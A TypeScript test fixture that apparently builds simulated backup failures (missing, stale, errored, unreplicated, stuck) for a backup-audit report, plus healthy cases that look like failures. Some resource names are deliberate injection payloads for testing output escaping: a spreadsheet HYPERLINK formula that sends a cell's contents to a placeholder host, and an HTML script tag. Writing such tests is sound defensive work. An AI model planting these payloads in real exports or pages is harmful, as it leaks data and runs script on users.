import type { Dice } from '../dice.ts'
import type { Wire, WireBackup } from '../fleet.ts'
import { formatStamp, parseStamp } from '../stamp.ts'
import { writeBackup } from '../write-backup.ts'
import type { ReplicationFacts } from '../write-replication-record.ts'
import type { VaultName } from './company.ts'
import { backupFacts, type Extent, type History } from './history.ts'
import { COPY_DAYS, HOUR_US } from './vault-draft.ts'

/** A resource whose backups went wrong in a way that the audit must see (or must not mistake). */
export interface Trouble {
  readonly name: string
  readonly vault: VaultName
  readonly extent: Extent
  /** Bends a history in which all went well. */
  readonly twist: (history: History, tools: Tools) => void
}

interface Tools {
  readonly dice: Dice
  readonly nowUs: number
}

const VAULT_FULL = { code: 'BackupService.6129', reason: 'The destination vault is full.' }
const IMPORT_FAILED = {
  code: 'BackupService.1006',
  reason: 'The copy could not be imported at the destination.',
}

const WEEK: Extent = { runs: 7, copies: 2 }

/** Every kind of trouble that the controls know, worst first; names that would hurt a careless report are among them. */
export const TROUBLES: readonly Trouble[] = [
  // recovery-point-missing
  { name: 'erp-migration-01', vault: 'erp', extent: { runs: 1, copies: 0 }, twist: failRuns(0) },
  { name: 'mongo-data-new', vault: 'data', extent: { runs: 0, copies: 0 }, twist: leave },
  // recovery-point-stale
  { name: 'hr-portal-legacy', vault: 'erp', extent: { runs: 12, copies: 0 }, twist: dropNewest(6) },
  { name: '财务-数据库-01', vault: 'erp', extent: { runs: 9, copies: 2 }, twist: failRuns(0, 1) },
  { name: 'kafka-log-archive', vault: 'data', extent: { runs: 8, copies: 0 }, twist: dropNewest(3) },
  { name: 'shop-web-retired', vault: 'web', extent: { runs: 5, copies: 4 }, twist: keepOnlyCopies },
  // backup-errored
  { name: 'build-agent-99', vault: 'office', extent: WEEK, twist: failRuns(3) },
  {
    name: '=HYPERLINK("http://intranet.example/?h="&A1,"gitlab")',
    vault: 'office',
    extent: WEEK,
    twist: failRuns(4),
  },
  { name: 'search-reindex', vault: 'web', extent: WEEK, twist: failRuns(2, 5) },
  { name: 'erp-db-primary', vault: 'erp', extent: WEEK, twist: failChild(1) },
  { name: 'payment-gw-hsm', vault: 'web', extent: WEEK, twist: failChild(4) },
  { name: 'cart-api-copyfail', vault: 'web', extent: WEEK, twist: failCopy },
  // backup-expired
  { name: 'wiki-2019', vault: 'office', extent: { runs: 11, copies: 2 }, twist: leave },
  { name: '<script>alert("erp")</script>', vault: 'web', extent: { runs: 10, copies: 2 }, twist: leave },
  { name: 'nginx-edge-old', vault: 'web', extent: { runs: 7, copies: COPY_DAYS + 2 }, twist: leave },
  // backup-unreplicated
  { name: 'erp-batch-night', vault: 'erp', extent: WEEK, twist: replicate(undefined, 2, 3, 4, 5) },
  {
    name: 'gitlab-runner, "spare"',
    vault: 'office',
    extent: WEEK,
    twist: replicate({ status: 'fail', failure: VAULT_FULL }, 2, 3, 4),
  },
  {
    name: 'hk-gateway',
    vault: 'hk',
    extent: { runs: 7, copies: 0 },
    twist: replicate({ status: 'fail', failure: IMPORT_FAILED }, 2),
  },
  { name: '🚀-ci-runner', vault: 'office', extent: WEEK, twist: replicate({ status: 'skip' }, 3, 4) },
  {
    name: 'mysql-data-hot',
    vault: 'data',
    extent: WEEK,
    twist: replicate({ status: 'waiting_replicate' }, 2),
  },
  { name: 'nas-video', vault: 'files', extent: WEEK, twist: replicate({ status: 'replicating' }, 2) },
  { name: 'shop-api-retry', vault: 'web', extent: WEEK, twist: failThenSucceed },
  // backup-stuck
  {
    name: 'orders-redo-tail',
    vault: 'orders',
    extent: { runs: 24, copies: 0 },
    twist: stick('protecting', 9),
  },
  { name: 'ad-dc-03', vault: 'office', extent: WEEK, twist: stick('waiting_protect', 7) },
  { name: 'wiki-drill', vault: 'office', extent: WEEK, twist: hold('restoring', 3, 8) },
  { name: 'erp-report-tmp', vault: 'erp', extent: WEEK, twist: hold('deleting', 6, 10) },
  // No trouble, but easily taken for one.
  { name: 'build-agent-busy', vault: 'office', extent: WEEK, twist: stick('protecting', 0.2) },
  {
    name: 'jump-host-decom',
    vault: 'office',
    extent: { runs: 0, copies: 0 },
    twist: enter({ protect_status: 'deleted' }),
  },
  {
    name: 'print-02',
    vault: 'office',
    extent: WEEK,
    twist: enter({ protect_status: null, extra_info: undefined }),
  },
]

function leave(): void {}

function failRuns(...ago: readonly number[]) {
  return ({ backups, copies }: History) => {
    for (const backup of at(backups, ago)) {
      dropCopyOf(backup, copies)
      Object.assign(backup, { status: 'error', protected_at: null, replication_records: [] })
    }
  }
}

function dropNewest(count: number) {
  return ({ backups, entry }: History) => {
    backups.splice(0, count)
    entry['auto_protect'] = false
  }
}

/** The server and its vault's backups are gone; what is left lies in the other region. */
function keepOnlyCopies({ backups, copies, entry }: History): void {
  backups.length = 0
  copies.splice(0, 2)
  entry['protect_status'] = 'deleted'
}

function failChild(ago: number) {
  return (history: History, { dice }: Tools) => {
    for (const backup of at(history.backups, [ago]))
      backup['children'] = ['available', 'error'].map((status, index) =>
        describeDisk(history, backup, status, index, dice),
      )
  }
}

function describeDisk(
  { subject, vault }: History,
  backup: WireBackup,
  status: string,
  index: number,
  dice: Dice,
): WireBackup {
  const disk = { ...subject, id: dice.uuid(), name: `${subject.name}-disk-${index}` }
  return writeBackup({
    id: dice.uuid(),
    checkpointId: String(backup['checkpoint_id']),
    projectId: vault.project.id,
    vaultId: vault.id,
    name: `${backup['name']}_${disk.name}`,
    resource: { ...disk, type: 'OS::Cinder::Volume' },
    status,
    createdAt: String(backup.created_at),
    protectedAt: null,
    updatedAt: String(backup['updated_at']),
    expiredAt: typeof backup['expired_at'] === 'string' ? backup['expired_at'] : null,
    incremental: true,
    automatic: true,
    parentId: String(backup.id),
    snapshotId: dice.uuid(),
  })
}

function failCopy({ copies }: History): void {
  for (const copy of at(copies, [1])) copy.status = 'error'
}

type Attempt = Pick<ReplicationFacts, 'status' | 'failure'>

/** Replaces the replication of some runs by an attempt that led to no copy; none at all where undefined. */
function replicate(attempt: Attempt | undefined, ...ago: readonly number[]) {
  return (history: History) => {
    for (const backup of at(history.backups, ago)) {
      dropCopyOf(backup, history.copies)
      const record = recordsOf(backup)[0]
      backup.replication_records =
        attempt === undefined || record === undefined ? [] : [withAttempt(record, attempt)]
    }
  }
}

function withAttempt(record: Wire, { status, failure }: Attempt): Wire {
  return {
    ...record,
    status,
    destination_backup_id: null,
    extra_info: {
      ...(record['extra_info'] as Wire),
      progress: 0,
      fail_code: failure?.code ?? '',
      fail_reason: failure?.reason ?? '',
    },
  }
}

/** The first attempt failed, the second went well: the backup is replicated. */
function failThenSucceed({ backups }: History, { dice }: Tools): void {
  for (const backup of at(backups, [2])) {
    const success = recordsOf(backup)[0] ?? {}
    const earlier = (parseStamp(success['created_at']) ?? 0) - HOUR_US / 2
    const failed = withAttempt(success, { status: 'fail', failure: IMPORT_FAILED })
    backup.replication_records = [{ ...failed, id: dice.uuid(), created_at: formatStamp(earlier) }, success]
  }
}

/** Adds a backup that somebody asked for some hours ago and that has not moved since. */
function stick(status: string, hoursAgo: number) {
  return (history: History, { dice, nowUs }: Tools) => {
    const { subject, vault, backups, entry } = history
    const at = formatStamp(nowUs - Math.round(hoursAgo * HOUR_US) - 1 - dice.below(60_000_000))
    const facts = backupFacts(subject, vault, vault.run(0), 1, false, dice)
    backups.push(
      writeBackup({
        ...facts,
        checkpointId: dice.uuid(),
        name: `manualbk_${subject.id.slice(0, 4)}`,
        status,
        createdAt: at,
        updatedAt: at,
        protectedAt: null,
        expiredAt: null,
        automatic: false,
        replicationRecords: [],
      }),
    )
    if (status === 'protecting') entry['protect_status'] = 'protecting'
  }
}

/** Holds an older backup in a passing status since some hours ago. */
function hold(status: string, ago: number, hoursAgo: number) {
  return ({ backups }: History, { nowUs }: Tools) => {
    for (const backup of at(backups, [ago]))
      Object.assign(backup, { status, updated_at: formatStamp(nowUs - hoursAgo * HOUR_US) })
  }
}

function enter(entry: Wire) {
  return (history: History) => {
    Object.assign(history.entry, entry)
  }
}

function at(backups: readonly WireBackup[], ago: readonly number[]): readonly WireBackup[] {
  return ago.map((index) => backups[index]).filter((backup) => backup !== undefined)
}

function recordsOf(backup: WireBackup): readonly Wire[] {
  return Array.isArray(backup.replication_records) ? (backup.replication_records as Wire[]) : []
}

function dropCopyOf(backup: WireBackup, copies: WireBackup[]): void {
  const copyId = recordsOf(backup)[0]?.['destination_backup_id']
  const index = copies.findIndex(({ id }) => id === copyId)
  if (index >= 0) copies.splice(index, 1)
}
